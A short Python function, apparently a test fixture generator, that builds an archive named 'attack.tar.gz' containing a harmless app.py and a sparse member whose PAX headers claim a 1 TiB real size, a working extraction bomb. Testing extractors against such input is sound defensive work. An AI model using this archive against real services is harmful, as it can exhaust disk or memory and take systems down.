import io
import tarfile


def build():
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz", format=tarfile.PAX_FORMAT) as archive:
        member = tarfile.TarInfo("app.py")
        member.size = 9
        archive.addfile(member, io.BytesIO(b"print(1)\n"))
        member = tarfile.TarInfo("huge")
        member.pax_headers = {
            "GNU.sparse.major": "1",
            "GNU.sparse.minor": "0",
            "GNU.sparse.realsize": str(1 << 40),
            "GNU.sparse.name": "huge",
        }
        member.size = 512
        archive.addfile(member, io.BytesIO(b"0\n" + bytes(510)))
    return "attack.tar.gz", buffer.getvalue()
